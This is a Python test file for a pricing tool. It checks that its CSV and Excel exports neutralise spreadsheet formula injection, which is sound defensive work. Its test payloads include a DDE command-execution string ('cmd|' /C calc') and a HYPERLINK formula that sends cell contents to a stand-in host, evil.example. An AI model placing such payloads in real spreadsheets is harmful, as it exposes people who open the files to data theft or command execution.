"""Spreadsheet formula injection: no text cell of any CSV or workbook we write runs in Excel/WPS."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from smop_pricing.charts.curve import curve_csv
from smop_pricing.cli import main
from smop_pricing.portfolio import price_table, read_portfolio, write_errors_csv, write_priced_csv
from smop_pricing.portfolio.report import errors_csv_bytes
from smop_pricing.portfolio.write import priced_csv_bytes
from smop_pricing.pricing.rules import quote
from smop_pricing.pricing.tariff import published_tariff
from smop_pricing.pricing.vector import cost_curve
from smop_pricing.quote.export import quote_csv, quote_xlsx
from smop_pricing.safe_io import FORMULA_STARTS, is_formula_like, neutralize

PAYLOADS = ("=1+1", "+HYPERLINK(\"http://x\")", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1",
            "\r=1+1", "＝1+1")

PORTFOLIO = (
    "customer,users,months,held_units,note\n"
    '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",1000000,1,0,+1+1\n'
    '"-2+3",150000,12,0,@SUM(1)\n'
    '"\tTAB",150000,12,0,"\r=1+1"\n'
    '"=cmd|\' /C calc\'!A0",abc,3,0,x\n'
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell), cell


def test_every_formula_start_is_made_inert_by_a_leading_apostrophe():
    for payload in PAYLOADS:
        assert neutralize(payload) == "'" + payload
    assert {p[0] for p in PAYLOADS} <= FORMULA_STARTS


def test_a_plain_number_stays_a_number():
    for number in ("-12", "-12.50", "+3", "-1e5", "38400"):
        assert neutralize(number) == number


def test_the_priced_csv_written_by_reprice_runs_nothing(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(PORTFOLIO, encoding="utf-8")
    out = tmp_path / "out.csv"
    assert main(["reprice", str(source), "-o", str(out)], out=io.StringIO(), err=io.StringIO()) == 0
    rows = _cells(out.read_text(encoding="utf-8"))
    _assert_inert(rows)
    names = [row[0] for row in rows[1:]]
    assert names[0].startswith("'=HYPERLINK(")
    assert "'-2+3" in names


def test_the_errors_file_written_by_reprice_runs_nothing(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("users,months\n=1+1,1\n@x,2\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    main(["reprice", str(source), "-o", str(out)], out=io.StringIO(), err=io.StringIO())
    rows = _cells((tmp_path / "out.errors.csv").read_text(encoding="utf-8"))
    _assert_inert(rows)
    assert {row[2] for row in rows[1:]} == {"'=1+1", "'@x"}


def test_the_web_downloads_of_a_priced_portfolio_and_its_errors_run_nothing():
    frame = read_portfolio(PORTFOLIO.encode("utf-8"))
    table = price_table(frame.rows, published_tariff(), None)
    _assert_inert(_cells(priced_csv_bytes(table).decode("utf-8")))
    for lang in ("zh", "en"):
        _assert_inert(_cells(errors_csv_bytes(frame.errors, lang).decode("utf-8")))


def test_money_columns_stay_numbers_in_the_priced_csv():
    frame = read_portfolio(PORTFOLIO.encode("utf-8"))
    table = price_table(frame.rows, published_tariff(), None)
    rows = list(csv.DictReader(io.StringIO(priced_csv_bytes(table).decode("utf-8"), newline="")))
    assert rows[0]["total"] == "40400"
    assert rows[0]["users"] == "1000000"


def test_a_customer_name_with_a_bare_carriage_return_round_trips_intact(tmp_path):
    table = pd.DataFrame({"customer": ["甲\r乙", "丙"], "users": [1, 2]})
    buffer = io.StringIO()
    write_priced_csv(table, buffer)
    rows = _cells(buffer.getvalue())
    assert [row[0] for row in rows] == ["customer", "甲\r乙", "丙"]
    path = tmp_path / "cr.csv"
    write_priced_csv(table, path)
    again = read_portfolio(path)
    assert list(again.rows["customer"]) == ["甲\r乙", "丙"]


def test_an_errors_file_keeps_a_value_with_a_carriage_return_in_one_record(tmp_path):
    frame = read_portfolio(b'users\n"ab\rc"\n5\n')
    path = tmp_path / "errors.csv"
    write_errors_csv(frame.errors, path, "en")
    rows = _cells(path.read_bytes().decode("utf-8"))
    assert len(rows) == 2
    assert rows[1][2] == "ab\rc"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_tariff_named_like_a_formula_is_inert_in_the_quote_csv(payload):
    tariff = dataclasses.replace(published_tariff(), name=payload, name_en=payload, version=payload)
    data = quote_csv(quote(tariff, 1_000_000, 1), "zh", dt.date(2026, 11, 27))
    _assert_inert(_cells(data.decode("utf-8-sig")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_tariff_named_like_a_formula_is_text_in_the_quote_workbook(payload):
    tariff = dataclasses.replace(published_tariff(), name=payload, name_en=payload, version=payload)
    data = quote_xlsx(quote(tariff, 1_000_000, 1), "en", dt.date(2026, 11, 27))
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if is_formula_like(cell.value.replace("\n", "\r")):
                        assert cell.quotePrefix, cell.value
    assert any(payload.strip().replace("\r", "") in text.replace("\n", "") for text in texts)


def test_the_workbook_keeps_numbers_as_numbers():
    data = quote_xlsx(quote(published_tariff(), 1_000_000, 1), "en", dt.date(2026, 11, 27))
    book = load_workbook(io.BytesIO(data))
    numbers = [cell.value for row in book.worksheets[0].iter_rows() for cell in row if cell.data_type == "n"]
    assert 1_000_000 in numbers


def test_the_cost_curve_csv_runs_nothing():
    curve = cost_curve(published_tariff(), [0, 100_000, 1_000_000], 1)
    _assert_inert(_cells(curve_csv(curve, 1)))
